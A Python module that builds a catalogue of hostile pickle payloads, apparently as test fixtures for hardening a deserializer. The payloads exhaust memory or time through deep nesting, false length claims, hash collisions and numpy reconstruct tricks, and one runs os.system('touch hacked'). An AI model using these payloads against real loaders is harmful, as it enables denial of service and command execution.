"""Makers of hostile pickles: small files that ask for the interpreter's life, all its
memory or all its time. Each gives the opcodes of a value, without PROTO and STOP."""

import pickle
import struct

RECONSTRUCT = (
    b"cnumpy._core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R"
)
COLLIDING = 2**61 - 1  # all its multiples hash to 0


def call(name: str, *arguments: bytes) -> bytes:
    """A call of a function by its name, "module name"."""
    return b"c%b\n(%btR" % (name.replace(" ", "\n").encode(), b"".join(arguments))


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    return pickle.dumps(value, 3)[2:-1]


def state(data: bytes, size: int, kind: str = "u1") -> bytes:
    """What sets the shape, type and data of an array."""
    dtype = b"cnumpy\ndtype\n" + text(kind) + b"\x89\x88\x87R(K\x03" + text("<")
    dtype += b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    return b"(K\x01%b\x85%b\x89%btb" % (number(size), dtype, data)


def binary(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def keyed(key: bytes) -> bytes:
    return b"}" + key + b"Ns"


def shared(make: bytes, get: bytes, levels: int = 60) -> bytes:
    """A value that holds the one before it twice, and so on."""
    return make + b"".join(b"q\x00" + get for _ in range(levels))


HOSTILE = {
    "array set twice": RECONSTRUCT
    + state(binary(b"A" * 60), 60)
    + state(binary(b"B" * 7), 3),
    "array set twice, the second large": RECONSTRUCT
    + state(binary(b"A" * 60), 60)
    + state(binary(b"B" * 300_000), 300_000),
    "array of a string's bytes": RECONSTRUCT + state(b"]", 0),
    "array larger than its data": RECONSTRUCT + state(binary(b"A" * 8), 10**9),
    "array of nothing, without end": RECONSTRUCT + state(binary(b""), 10**15, "S0"),
    "scalar of many numbers": call(
        "numpy._core.multiarray scalar",
        call("numpy dtype", text("u1"), b"\x89\x88"),
        binary(b"A" * 9),
    ),
    "tuple of 150,000 levels as a key": keyed(b")" + b"\x85" * 150_000),
    "tuple of 150,000 levels": b")" + b"\x85" * 150_000,
    "list of 150,000 levels": b"]" * 150_000 + b"a" * 149_999,
    "lists within marks": b"](" * 150_000 + b"e" * 150_000,
    "tuple that is shared, as a key": keyed(shared(b")", b"h\x00\x86")),
    "tuple that is doubled, as a key": keyed(b")" + b"2\x86" * 60),
    "tuple that is shared": shared(b")", b"h\x00\x86"),
    "list that is shared": shared(b"]", b"0]h\x00ah\x00a"),
    "list that holds itself": b"]q\x00h\x00a",
    "numbers that hash alike, as keys": b"}("
    + b"".join(number(n * COLLIDING) + b"N" for n in range(40_000))
    + b"u",
    "numbers that hash alike, in a set": b"\x8f("
    + b"".join(number(n * COLLIDING) for n in range(40_000))
    + b"\x90",
    "numbers that hash alike, in a frozenset": b"("
    + b"".join(number(n * COLLIDING) for n in range(40_000))
    + b"\x91",
    "bytearray of a number": call("builtins bytearray", number(4 * 10**9)),
    "bytearray through punycode": call(
        "builtins bytearray", text("é" * 1000), text("punycode")
    ),
    "bytearray through idna": call(
        "builtins bytearray", text("x" * 1000), text("idna")
    ),
    "bytes through a codec": call("_codecs encode", text("é" * 999), text("punycode")),
    "bytearray8 that claims 4 GB": b"\x96" + struct.pack("<Q", 4 * 10**9),
    "bytes that claim 4 GB": b"B" + struct.pack("<I", 4 * 10**9),
    "bytes8 that claim 4 GB": b"\x8e" + struct.pack("<Q", 4 * 10**9),
    "string that claims 4 GB": b"X" + struct.pack("<I", 4 * 10**9),
    "string8 that claims 2**63": b"\x8d" + struct.pack("<Q", 2**63),
    "number that claims 2 GB": b"\x8b" + struct.pack("<i", 2**31 - 1),
    "frame that claims 4 GB": b"\x95" + struct.pack("<Q", 4 * 10**9),
    "memo number 200 million": b"Nr" + struct.pack("<I", 200_000_000),
    "a million sets": b"(" + b"\x8f" * 1_000_000 + b"t",
    "a million dictionaries": b"(" + keyed(text("")) * 1_000_000 + b"t",
    "a million marks": b"(" * 1_000_000,
    "two million lists": b"(" + b"]" * 2_000_000 + b"t",
    "one wide character": text("a" * 30_000_000 + "\U0001f600"),
    "a set of one list again and again": b"](%beq\x00" % (b"K\x01" * 200_000)
    + (b"cbuiltins\nset\nh\x00\x85R0" * 40_000),
    "a name of a million characters": b"c" + b"os\x1b[2J" * 200_000 + b"\nsystem\n",
    "a number of a million digits": b"I" + b"9" * 1_000_000 + b"\n",
    "a float of a million letters": b"F" + b"nine\x07" * 200_000 + b"\n",
    "a function that is not plain": call("os system", text("touch hacked")),
    "a class": b"cbuiltins\nset\n)\x81",
    "attributes for a function": b"c_codecs\nencode\n}%bK\x01sb" % text("a"),
}
